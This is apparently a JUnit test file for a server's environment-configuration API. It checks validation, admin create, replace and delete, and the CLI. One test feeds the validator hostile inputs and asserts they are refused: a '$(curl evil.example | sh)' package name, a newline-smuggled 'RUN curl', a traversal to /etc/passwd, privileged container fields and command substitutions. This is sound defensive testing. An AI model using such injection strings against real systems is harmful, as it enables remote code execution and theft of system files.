package io.berth.server;

import com.fasterxml.jackson.databind.JsonNode;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.net.http.HttpRequest;
import java.nio.file.Path;
import java.util.List;

import static io.berth.server.Problems.assertProblem;
import static org.assertj.core.api.Assertions.assertThat;

/** Environment configurations over HTTP: the published schema, the standard ones, valid, invalid and hostile documents. */
class EnvironmentApiTest {
    private static final String VALID = """
            {"name": "astro", "description": "astronomy",
             "python": {"version": "3.12", "packages": ["numpy==1.26.4", "astropy>=6.0"]},
             "java": {"version": "21", "packages": ["org.apache.spark:spark-avro_2.12:3.5.1"]},
             "systemPackages": ["libgomp1"], "binaryPackages": ["libroger.so"]}""";

    @TempDir
    Path data;
    private TestServer server;
    private Http http;
    private String admin;
    private String alice;

    @BeforeEach
    void start() {
        server = TestServer.inMemory(data);
        http = server.http;
        admin = server.adminKey;
        alice = server.createUser("alice");
    }

    @AfterEach
    void stop() {
        server.close();
    }

    private Http.Response put(String path, String key, String json) {
        return http.send(http.request(path, key, "Content-Type", "application/json")
                .PUT(HttpRequest.BodyPublishers.ofString(json)));
    }

    /** Asserts a 400 invalid-environment answer and returns the paths of its errors. */
    private static List<String> invalidPaths(Http.Response response) {
        JsonNode problem = assertProblem(response, 400, "invalid-environment");
        List<String> paths = new java.util.ArrayList<>();
        problem.path("errors").forEach(error -> {
            assertThat(error.path("message").asText()).isNotEmpty();
            paths.add(error.path("path").asText());
        });
        assertThat(problem.path("field").asText()).isEqualTo(paths.get(0));
        return paths;
    }

    /** The valid document with one part replaced, as text. */
    private static String with(String original, String replacement) {
        String changed = VALID.replace(original, replacement);
        assertThat(changed).isNotEqualTo(VALID);
        return changed;
    }

    @Test
    void theSchemaIsPublishedWithoutAKey() {
        Http.Response schema = http.get("/api/v1/environments/schema", null);
        assertThat(schema.status()).isEqualTo(200);
        assertThat(schema.mediaType()).isEqualTo("application/schema+json");
        assertThat(schema.json().path("$schema").asText()).isEqualTo("https://json-schema.org/draft/2020-12/schema");
        assertThat(schema.json().path("additionalProperties").asBoolean(true)).isFalse();
        // everything else about environments needs a key
        assertProblem(http.get("/api/v1/environments", null), 401, "authentication-required");
    }

    @Test
    void theStandardEnvironmentsArePresentWithTheirParameters() {
        JsonNode list = http.get("/api/v1/environments", alice).json();
        assertThat(list).extracting(e -> e.path("name").asText()).containsExactly("gaia-basic", "gaia-ml");
        assertThat(list.get(0).has("document")).isFalse();

        JsonNode basic = http.get("/api/v1/environments/gaia-basic", alice).json();
        assertThat(basic.path("document").path("python").path("version").asText()).isEqualTo("3.11");
        assertThat(basic.path("parameters").path("environment.python.packages").asText())
                .isEqualTo("numpy,pandas,astropy,matplotlib");
        assertThat(basic.path("parameters").path("environment.java.version").asText()).isEqualTo("17");
        JsonNode ml = http.get("/api/v1/environments/gaia-ml", alice).json();
        assertThat(ml.path("parameters").path("environment.python.packages").asText())
                .isEqualTo("numpy,pandas,astropy,matplotlib,scikit-learn,torch,pyspark");
        assertThat(ml.path("parameters").path("environment.java.packages").asText())
                .contains("org.apache.spark:spark-mllib_2.12:3.5.1");

        assertProblem(http.get("/api/v1/environments/nope", alice), 404, "environment-not-found");
    }

    @Test
    void aValidDocumentShowsTheParametersItWouldGive() {
        Http.Response valid = http.post("/api/v1/environments/validate", alice, VALID);
        assertThat(valid.status()).isEqualTo(200);
        assertThat(valid.json().path("valid").asBoolean()).isTrue();
        assertThat(valid.json().path("name").asText()).isEqualTo("astro");
        JsonNode parameters = valid.json().path("parameters");
        assertThat(parameters.path("environment.python.packages").asText()).isEqualTo("numpy==1.26.4,astropy>=6.0");
        assertThat(parameters.path("environment.system.packages").asText()).isEqualTo("libgomp1");
        assertThat(parameters.path("environment.binary.packages").asText()).isEqualTo("libroger.so");
        assertThat(parameters.size()).isEqualTo(7);
        // nothing was stored
        assertProblem(http.get("/api/v1/environments/astro", alice), 404, "environment-not-found");
    }

    @Test
    void invalidDocumentsNameEveryFieldAtFault() {
        assertThat(invalidPaths(http.post("/api/v1/environments/validate", alice,
                with("\"version\": \"3.12\"", "\"version\": \"2.7\"")))).containsExactly("/python/version");
        assertThat(invalidPaths(http.post("/api/v1/environments/validate", alice, """
                {"name": "Bad Name", "python": {"version": "3.12", "packages": ["numpy", "numpy"]}}""")))
                .containsExactlyInAnyOrder("/name", "/java", "/python/packages");
        assertThat(invalidPaths(http.post("/api/v1/environments/validate", alice,
                with("\"version\": \"21\"", "\"version\": 21")))).containsExactly("/java/version");
        assertProblem(http.post("/api/v1/environments/validate", alice, "{\"name\": "), 400, "malformed-json");
        assertProblem(http.post("/api/v1/environments/validate", alice, "{\"name\":\"a\",\"name\":\"b\"}"), 400,
                "malformed-json");
    }

    @Test
    void hostileDocumentsAreRefusedNamingTheField() {
        String base = "/api/v1/environments/validate";
        assertThat(invalidPaths(http.post(base, alice, with("\"description\"",
                "\"securityContext\": {\"privileged\": true}, \"description\"")))).containsExactly("/securityContext");
        assertThat(invalidPaths(http.post(base, alice, with("\"version\": \"3.12\"",
                "\"version\": \"3.12\", \"hostPath\": \"/\"")))).containsExactly("/python/hostPath");
        assertThat(invalidPaths(http.post(base, alice, with("\"description\"",
                "\"command\": [\"sh\", \"-c\", \"id\"], \"image\": \"evil:latest\", \"description\""))))
                .containsExactlyInAnyOrder("/command", "/image");
        assertThat(invalidPaths(http.post(base, alice, with("\"astropy>=6.0\"",
                "{\"name\": \"astropy\", \"command\": \"id\"}")))).containsExactly("/python/packages/1");
        assertThat(invalidPaths(http.post(base, alice, with("\"astropy>=6.0\"",
                "\"astropy>=6.0\", \"pandas\", \"$(curl evil.example | sh)\""))))
                .containsExactly("/python/packages/3");
        assertThat(invalidPaths(http.post(base, alice, with("\"libgomp1\"", "\"libgomp1\\nRUN curl evil\""))))
                .containsExactly("/systemPackages/0");
        assertThat(invalidPaths(http.post(base, alice, with("\"libgomp1\"", "\"libgomp1\", \"&anchor\", \"*anchor\""))))
                .containsExactly("/systemPackages/1", "/systemPackages/2");
        assertThat(invalidPaths(http.post(base, alice, with("\"libroger.so\"", "\"../../etc/passwd\""))))
                .containsExactly("/binaryPackages/0");
        assertThat(invalidPaths(http.post(base, alice, with("\"org.apache.spark:spark-avro_2.12:3.5.1\"",
                "\"org.apache.spark:spark-avro_2.12:3.5.1;--conf=spark.driver.extraJavaOptions=-Dx\""))))
                .containsExactly("/java/packages/0");
        assertThat(invalidPaths(http.post(base, alice, with("\"astronomy\"", "\"line\\nbreak\""))))
                .containsExactly("/description");
        // the same documents cannot be stored
        assertThat(invalidPaths(http.post("/api/v1/environments", admin, with("\"description\"",
                "\"image\": \"evil:latest\", \"description\"")))).containsExactly("/image");
        assertThat(http.get("/api/v1/environments", admin).json()).hasSize(2);
    }

    @Test
    void adminsCreateReplaceAndDelete() {
        assertProblem(http.post("/api/v1/environments", alice, VALID), 403, "forbidden");

        Http.Response created = http.post("/api/v1/environments", admin, VALID);
        assertThat(created.status()).isEqualTo(201);
        assertThat(created.header("Location")).isEqualTo("/api/v1/environments/astro");
        assertThat(created.json().path("document").path("java").path("version").asText()).isEqualTo("21");
        assertProblem(http.post("/api/v1/environments", admin, VALID), 409, "environment-exists");

        Http.Response replaced = put("/api/v1/environments/astro", admin,
                with("\"version\": \"3.12\"", "\"version\": \"3.13\""));
        assertThat(replaced.status()).isEqualTo(200);
        assertThat(replaced.json().path("parameters").path("environment.python.version").asText()).isEqualTo("3.13");
        assertThat(http.get("/api/v1/environments/astro", alice).json().path("document").path("python")
                .path("version").asText()).isEqualTo("3.13");
        assertThat(invalidPaths(put("/api/v1/environments/astro", admin, with("\"astro\"", "\"other\""))))
                .containsExactly("/name");
        assertProblem(put("/api/v1/environments/astro", alice, VALID), 403, "forbidden");
        assertProblem(put("/api/v1/environments/nope", admin, with("\"astro\"", "\"nope\"")), 404,
                "environment-not-found");

        assertProblem(http.delete("/api/v1/environments/astro", alice), 403, "forbidden");
        assertThat(http.delete("/api/v1/environments/astro", admin).status()).isEqualTo(204);
        assertProblem(http.delete("/api/v1/environments/astro", admin), 404, "environment-not-found");
        assertThat(http.get("/api/v1/environments", alice).json()).extracting(e -> e.path("name").asText())
                .containsExactly("gaia-basic", "gaia-ml");
    }

    @Test
    void theCliListsShowsValidatesAndCreates() throws Exception {
        Cli.Run list = Cli.run(server, alice, "environments", "list");
        assertThat(list.code()).as(list.err()).isZero();
        assertThat(list.out()).contains("NAME").contains("gaia-basic").contains("gaia-ml").contains("3.11");

        Cli.Run show = Cli.run(server, alice, "environments", "show", "gaia-ml");
        assertThat(show.code()).as(show.err()).isZero();
        assertThat(show.out()).contains("environment.python.packages")
                .contains("numpy,pandas,astropy,matplotlib,scikit-learn,torch,pyspark").contains("\"python\"");
        Cli.Run json = Cli.run(server, alice, "environments", "show", "gaia-basic", "--output", "json");
        assertThat(Http.JSON.readTree(json.out()).path("parameters").path("environment.name").asText())
                .isEqualTo("gaia-basic");

        Path good = java.nio.file.Files.writeString(data.resolve("astro.json"), VALID);
        Cli.Run valid = Cli.run(server, alice, "environments", "validate", good.toString());
        assertThat(valid.code()).as(valid.err()).isZero();
        assertThat(valid.out()).contains("valid environment 'astro'").contains("environment.binary.packages")
                .contains("libroger.so");
        Path bad = java.nio.file.Files.writeString(data.resolve("bad.json"), with("\"libgomp1\"",
                "\"libgomp1\", \"$(id)\""));
        Cli.Run invalid = Cli.run(server, alice, "environments", "validate", bad.toString());
        assertThat(invalid.code()).isEqualTo(7);
        assertThat(invalid.err()).contains("/systemPackages/1").contains("(invalid-environment)");

        assertThat(Cli.run(server, alice, "environments", "create", good.toString()).code()).isEqualTo(5);
        Cli.Run created = Cli.run(server, admin, "environments", "create", good.toString());
        assertThat(created.code()).as(created.err()).isZero();
        assertThat(created.out()).contains("Environment astro created");
        assertThat(Cli.run(server, admin, "environments", "create", good.toString()).code()).isEqualTo(4);
        assertThat(Cli.run(server, alice, "environments", "show", "nope").code()).isEqualTo(3);

        Cli.Run schema = Cli.run(server, alice, "environments", "schema");
        assertThat(Http.JSON.readTree(schema.out()).path("title").asText())
                .isEqualTo("Berth environment configuration");
    }

    @Test
    void theDocumentedExamplesAreTheShippedStandardEnvironments() throws Exception {
        for (String name : io.berth.server.http.EnvironmentDocuments.STANDARD) {
            Path example = Path.of("..", "docs", "examples", "environments", name + ".json");
            try (var shipped = EnvironmentApiTest.class.getResourceAsStream("/io/berth/server/environments/" + name
                    + ".json")) {
                assertThat(shipped).as("resource of %s", name).isNotNull();
                assertThat(java.nio.file.Files.readString(example))
                        .isEqualTo(new String(shipped.readAllBytes(), java.nio.charset.StandardCharsets.UTF_8));
            }
            // and each one is valid as it is documented
            assertThat(http.post("/api/v1/environments/validate", alice, java.nio.file.Files.readString(example))
                    .status()).isEqualTo(200);
        }
    }
}
